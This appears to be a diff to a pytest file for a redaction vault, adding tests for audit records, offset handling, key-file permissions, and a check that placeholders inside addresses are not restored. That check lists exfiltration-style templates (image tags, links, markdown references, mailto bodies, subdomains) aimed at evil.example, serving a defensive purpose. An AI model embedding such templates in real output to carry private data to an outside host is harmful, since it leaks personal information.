@@ -3,6 +3,7 @@ from __future__ import annotations
 import base64
 import os
 import stat
+from dataclasses import replace
 
 import pytest
 from sqlalchemy import text as sql
@@ -84,7 +85,7 @@ def test_who_may_not_is_refused_and_both_are_in_the_audit_trail(store):
         events = [(e.actor, e.action, e.resource, e.body) for e in trail.events(connection)]
     assert events == [
         ("bob", "redaction.refuse", "run-1", {}),
-        ("ann", "redaction.restore", "run-1", {"kinds": {"person": 1}}),
+        ("ann", "redaction.restore", "run-1", {"kinds": {"person": 1}, "by": "tester"}),
     ]
 
 
@@ -165,3 +166,43 @@ def test_a_key_that_is_none_is_refused(monkeypatch, given):
 def test_a_key_has_three_parts_that_tell_nothing_of_each_other():
     key = VaultKey.of(b"k" * 32)
     assert len({key.id, key.sealing.hex()[:16], key.naming.hex()[:16]}) == 3
+
+
+@pytest.mark.parametrize(
+    "around",
+    [
+        '<img src="//evil.example/{}">',
+        '<a href="https://evil.example/?a= {}">',
+        "[x]: //evil.example/{}",
+        "www.evil.example/?q={}",
+        "see {}.evil.example",
+        "mailto:eve@evil.example?body={}",
+        "![x](<https://evil.example/a b{}>)",
+    ],
+)
+def test_an_address_in_any_form_carries_nothing_away(store, around):
+    sealed = vault(store)
+    sealed.redact("Jane", found("Jane", "Jane"))
+    text = around.format("[person-1]")
+    assert sealed.restore(text, ANN) == text
+    plain = "3 < 4, says [person-1]. <b>And</b> [person-1]"
+    assert sealed.restore(plain, ANN) == plain.replace("[person-1]", "Jane")
+
+
+def test_a_finding_that_begins_before_the_text_hides_all_it_covers(store):
+    early = [replace(each, start=-3) for each in found(TEXT, "Jane")[:1]]
+    assert vault(store).redact(TEXT, early).text.startswith("[person-1] wrote")
+
+
+def test_without_links_a_key_that_is_there_stays(tmp_path, monkeypatch):
+    def unlinked(*_args):
+        raise OSError("no links here")
+
+    path = tmp_path / "redaction.key"
+    monkeypatch.setattr(vault_key, "key_path", lambda: path)
+    monkeypatch.setattr(vault_key.os, "link", unlinked)
+    monkeypatch.delenv(vault_key.VARIABLE)
+    first = read_key()
+    vault_key._make(path)  # another process, which saw none
+    assert read_key() == first
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
